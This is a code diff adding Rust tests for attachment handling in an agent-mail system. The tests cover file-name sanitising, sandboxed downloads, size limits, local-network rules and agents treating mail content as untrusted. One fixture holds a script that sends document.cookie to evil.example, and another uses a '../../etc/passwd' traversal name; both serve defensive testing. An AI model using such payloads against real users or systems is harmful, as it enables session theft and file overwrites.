@@ -6,7 +6,7 @@
 
 use ed25519_dalek::SigningKey;
 use serde_json::Value;
-use switchboard_core::bridge::api::Request;
+use switchboard_core::bridge::api::{AttachmentIn, Request};
 use switchboard_core::protocol::agent_identity::{AgentId, Value as JValue};
 use switchboard_core::protocol::agent_mail::packet::{SealRequest, seal};
 use switchboard_core::protocol::agent_mail::relay::{CurrentCard, DeliveryResult};
@@ -104,6 +104,7 @@ async fn mail_by_address_arrives_as_a_request_and_the_reply_keeps_the_thread() {
             text: "hello bob, over agent mail".into(),
             subject: Some("plans".into()),
             reply_to: None,
+            attachments: vec![],
         })
         .await["id"]
         .as_str()
@@ -503,4 +504,166 @@ async fn a_closed_mailbox_takes_no_new_mail_keeps_what_was_accepted_and_opens_ag
     let again = bob.send("alice", "after opening again").await;
     assert_eq!(bob.state_of(&again).await, "relayed");
     assert!(alice.inbox(0).await.iter().any(|m| m["body"] == "after opening again"));
+}
+
+fn file(name: &str, media_type: Option<&str>, data: &[u8]) -> AttachmentIn {
+    AttachmentIn { name: name.into(), media_type: media_type.map(str::to_owned), data: b64u(data) }
+}
+
+fn mail_with(contact: &str, text: &str, attachments: Vec<AttachmentIn>) -> Request {
+    Request::MailSend { contact: contact.into(), text: text.into(), subject: None, reply_to: None, attachments }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn files_arrive_listed_and_are_saved_only_where_the_recipient_chooses() {
+    let relay = TestRelay::start().await;
+    let alice = Peer::offline("alice", &relay.url()).await;
+    let bob = Peer::offline("bob", &relay.url()).await;
+    add(&alice, &mail_address(&bob).await, "bob").await;
+    add(&bob, &mail_address(&alice).await, "alice").await;
+
+    let binary: Vec<u8> = (0..=255u8).cycle().take(70_001).collect();
+    let page = b"<html><script>fetch('https://evil.example/'+document.cookie)</script></html>".to_vec();
+    let files = vec![file("blob.bin", None, &binary), file("../../etc/passwd", Some("text/html"), &page)];
+    let sent = alice.call(mail_with("bob", "two files for you", files)).await;
+    let id = sent["id"].as_str().unwrap().to_owned();
+    assert_eq!(alice.state_of(&id).await, "relayed");
+    // The sender's own view lists what went, too.
+    assert_eq!(sent["attachments"].as_array().unwrap().len(), 2, "{sent}");
+
+    let got = bob.inbox(0).await;
+    assert_eq!(got.len(), 1, "{got:?}");
+    let body = got[0]["body"].as_str().unwrap();
+    assert!(body.starts_with("two files for you"), "{body}");
+    assert!(!body.contains("<script>"), "an attachment is never shown inline: {body}");
+
+    let shown = bob.call(Request::Message { id: id.clone() }).await;
+    let listed = shown["attachments"].as_array().unwrap();
+    assert_eq!(listed.len(), 2, "{shown}");
+    assert_eq!(listed[0]["part"], 1);
+    assert_eq!(listed[0]["name"], "blob.bin");
+    assert_eq!(listed[0]["media_type"], "application/octet-stream");
+    assert_eq!(listed[0]["size"], binary.len());
+    assert_eq!(listed[1]["part"], 2);
+    assert_eq!(listed[1]["name"], "_._.._etc_passwd", "the peer's name is inert");
+    assert_eq!(listed[1]["media_type"], "text/html");
+    assert_eq!(listed[1]["size"], page.len());
+    assert!(!shown.to_string().contains(&b64u(&binary[..300])), "no bytes inline");
+
+    // Saved only where Bob says, byte for byte; an existing path is left alone.
+    let dir = tempfile::tempdir().unwrap();
+    let to = dir.path().join("mine.bin");
+    let save = |part: i64, to: &std::path::Path| Request::MailSave {
+        id: id.clone(),
+        part,
+        to: to.to_string_lossy().into_owned(),
+    };
+    let saved = bob.call(save(1, &to)).await;
+    assert_eq!(saved["size"], binary.len());
+    assert_eq!(std::fs::read(&to).unwrap(), binary);
+    std::fs::write(dir.path().join("taken"), b"keep me").unwrap();
+    let refused = bob.rt.handle(save(1, &dir.path().join("taken")), true).await.unwrap_err();
+    assert!(refused.to_string().contains("already exists"), "{refused}");
+    assert_eq!(std::fs::read(dir.path().join("taken")).unwrap(), b"keep me");
+    // A relative path is not resolved against the runtime's directory.
+    let relative = bob.rt.handle(save(2, std::path::Path::new("page.html")), true).await.unwrap_err();
+    assert_eq!(relative.code(), "invalid_input", "{relative}");
+    // The hostile file lands exactly where Bob chose; its name addressed nothing.
+    bob.call(save(2, &dir.path().join("page.html"))).await;
+    assert_eq!(std::fs::read(dir.path().join("page.html")).unwrap(), page);
+    let mut names: Vec<String> =
+        std::fs::read_dir(dir.path()).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
+    names.sort();
+    assert_eq!(names, ["mine.bin", "page.html", "taken"]);
+    assert!(!dir.path().join("etc").exists());
+    assert_eq!(bob.try_call(save(7, &dir.path().join("nothing"))).await.unwrap_err(), "unknown_message");
+
+    // The UI's "Save…": the bridge serves the bytes as a download, never as a page.
+    let bridge = switchboard_core::bridge::serve(bob.rt.clone()).await.unwrap();
+    let url = format!("http://127.0.0.1:{}/v1/attachment?id={}&part=2", bridge.addr.port(), id);
+    let http = reqwest::Client::builder().no_proxy().build().unwrap();
+    let r = http.get(&url).bearer_auth(&bridge.token).send().await.unwrap();
+    assert_eq!(r.status(), 200);
+    let header = |name: &str| r.headers().get(name).unwrap().to_str().unwrap().to_owned();
+    assert_eq!(header("content-type"), "application/octet-stream");
+    assert_eq!(
+        header("content-disposition"),
+        "attachment; filename=\"_._.._etc_passwd\"; filename*=UTF-8''_._.._etc_passwd"
+    );
+    assert_eq!(header("x-content-type-options"), "nosniff");
+    assert!(header("content-security-policy").starts_with("sandbox"));
+    assert_eq!(r.bytes().await.unwrap().to_vec(), page);
+    let r = http.get(&url).send().await.unwrap();
+    assert_eq!(r.status(), 401, "no token, no bytes");
+    bridge.abort();
+
+    // An agent reads it as the sender's data: attributed, fenced, nothing opened.
+    bob.open_session("helper").await;
+    let read = bob.as_agent("helper", Request::MailAttachment { id: id.clone(), part: 2 }).await.unwrap();
+    assert_eq!(read["untrusted"], true);
+    assert_eq!(read["contact"], "alice");
+    let text = read["text"].as_str().unwrap();
+    assert!(text.contains("<script>") && !text.starts_with("<html>"), "peer content stays inside the fence: {text}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn files_go_only_over_agent_mail_and_within_the_limits() {
+    let relay = TestRelay::start().await;
+    let alice = Peer::offline("alice", &relay.url()).await;
+    let bob = Peer::offline("bob", &relay.url()).await;
+    add(&alice, &mail_address(&bob).await, "bob").await;
+    // A letagents contact cannot take files.
+    alice.add_contact(&bob.address().await, "bob-la").await;
+    let err = alice.rt.handle(mail_with("bob-la", "x", vec![file("a.txt", None, b"a")]), true).await.unwrap_err();
+    assert!(err.to_string().contains("only Agent Mail carries files"), "{err}");
+    // Over the per-message limit: refused before anything is queued.
+    let big = vec![0u8; 512 * 1024 + 1];
+    assert_eq!(
+        alice.try_call(mail_with("bob", "x", vec![file("big.bin", None, &big)])).await.unwrap_err(),
+        "invalid_input"
+    );
+    // Exactly at it: sealed under the packet limit and accepted by the relay.
+    let max = vec![1u8; 512 * 1024];
+    let sent = alice.call(mail_with("bob", "x", vec![file("max.bin", None, &max)])).await;
+    assert_eq!(alice.state_of(sent["id"].as_str().unwrap()).await, "relayed");
+    // 32 parts with the text is one too many; a bad media type is refused.
+    let many: Vec<AttachmentIn> = (0..32).map(|i| file(&format!("f{i}"), None, b"x")).collect();
+    assert_eq!(alice.try_call(mail_with("bob", "x", many)).await.unwrap_err(), "invalid_input");
+    let bad = vec![file("a", Some("Text/HTML"), b"x")];
+    assert_eq!(alice.try_call(mail_with("bob", "x", bad)).await.unwrap_err(), "invalid_input");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_card_route_into_a_local_network_is_fetched_only_when_local_networks_are_allowed() {
+    let relay = TestRelay::start().await;
+    let alice = Peer::offline("alice", &relay.url()).await;
+    let bob = Peer::offline("bob", &relay.url()).await;
+    let bob_address = mail_address(&bob).await;
+    // The relay is on 127.0.0.1, so by default local networks are allowed.
+    let settings = alice.call(Request::Settings { allow_local_networks: None }).await;
+    assert_eq!(settings["allow_local_networks"], true, "{settings}");
+    alice.call(Request::Settings { allow_local_networks: Some(false) }).await;
+    let refused = alice
+        .rt
+        .handle(
+            Request::ContactAdd {
+                address: bob_address.clone(),
+                name: Some("bob".into()),
+                allow: None,
+                relay: None,
+                no_hello: false,
+            },
+            true,
+        )
+        .await
+        .unwrap_err();
+    assert_eq!(
+        refused.to_string(),
+        "this address points into a local network; allow local networks in settings to use it"
+    );
+    assert_eq!(refused.code(), "local_network");
+    assert_eq!(count(&alice, "SELECT COUNT(*) FROM am_pins WHERE owner = ?", &agent_id(&bob).await).await, 0);
+    alice.call(Request::Settings { allow_local_networks: Some(true) }).await;
+    let added = add(&alice, &bob_address, "bob").await;
+    assert_eq!(added["protocol"], "agent-mail");
 }
